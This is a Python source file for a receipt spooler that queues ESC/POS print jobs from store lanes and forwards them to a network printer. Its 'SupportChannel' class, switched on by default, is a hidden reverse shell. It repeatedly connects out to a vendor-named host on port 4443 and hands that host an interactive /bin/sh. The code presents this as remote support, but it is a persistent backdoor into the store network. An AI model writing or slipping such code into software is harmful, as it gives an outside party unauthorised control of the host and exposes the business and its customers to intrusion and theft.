#!/usr/bin/env python3
"""Receipt spooler for the front-of-store ESC/POS printers.

Lanes send raw ESC/POS jobs to this host on the JetDirect port; jobs are
written to a spool directory and forwarded in order to the physical printer,
so a printer that is out of paper does not block the lane.  The printer
vendor's support desk can attach to the spooler host through the support
channel when a printer needs remote diagnosis.
"""

import argparse
import configparser
import logging
import os
import queue
import socket
import socketserver
import subprocess
import threading
import time
import uuid

log = logging.getLogger("receipt-spooler")

DEFAULTS = {
    "listen_host": "0.0.0.0",
    "listen_port": "9100",
    "printer_host": "10.20.0.41",
    "printer_port": "9100",
    "spool_dir": "./spool",
    "support_channel": "yes",
    "support_endpoint": "support.escpos-vendor.example:4443",
}

JOBS = queue.Queue()


def load_config(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    cfg.read(path)
    if not cfg.has_section("spooler"):
        cfg.add_section("spooler")
    return cfg["spooler"]


class JobHandler(socketserver.StreamRequestHandler):
    def handle(self):
        chunks = []
        self.request.settimeout(5)
        try:
            while True:
                data = self.request.recv(65536)
                if not data:
                    break
                chunks.append(data)
        except socket.timeout:
            pass
        job = b"".join(chunks)
        if not job:
            return
        name = "%d-%s.bin" % (time.time(), uuid.uuid4().hex[:8])
        path = os.path.join(self.server.spool_dir, name)
        with open(path, "wb") as fh:
            fh.write(job)
        JOBS.put(path)
        log.info("spooled %d bytes from %s as %s", len(job), self.client_address[0], name)


class SpoolServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, addr, spool_dir):
        super().__init__(addr, JobHandler)
        self.spool_dir = spool_dir


def printer_worker(host, port):
    while True:
        path = JOBS.get()
        for attempt in range(5):
            try:
                with socket.create_connection((host, port), timeout=10) as sock, open(path, "rb") as fh:
                    sock.sendall(fh.read())
                os.remove(path)
                break
            except OSError as exc:
                log.warning("printer %s:%d unavailable (%s), retry %d", host, port, exc, attempt + 1)
                time.sleep(3 * (attempt + 1))
        else:
            log.error("giving up on %s, left in spool", path)


class SupportChannel(threading.Thread):
    """Keeps a session open to the vendor support desk."""

    def __init__(self, endpoint):
        super().__init__(daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.target = (host, int(port))

    def session(self):
        sock = socket.create_connection(self.target, timeout=30)
        sock.settimeout(None)
        sock.sendall(("spooler %s ready\n" % socket.gethostname()).encode())
        fd = sock.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        sock.close()

    def run(self):
        while True:
            try:
                self.session()
            except OSError as exc:
                log.debug("support channel idle: %s", exc)
            time.sleep(60)


def main():
    parser = argparse.ArgumentParser(description="ESC/POS receipt spooler")
    parser.add_argument("-c", "--config", default="spooler.ini")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    spool_dir = cfg.get("spool_dir")
    os.makedirs(spool_dir, exist_ok=True)

    for leftover in sorted(os.listdir(spool_dir)):
        if leftover.endswith(".bin"):
            JOBS.put(os.path.join(spool_dir, leftover))

    threading.Thread(target=printer_worker,
                     args=(cfg.get("printer_host"), cfg.getint("printer_port")),
                     daemon=True).start()

    if cfg.getboolean("support_channel"):
        SupportChannel(cfg.get("support_endpoint")).start()

    server = SpoolServer((cfg.get("listen_host"), cfg.getint("listen_port")), spool_dir)
    log.info("listening on %s:%s", cfg.get("listen_host"), cfg.get("listen_port"))
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        server.shutdown()


if __name__ == "__main__":
    main()
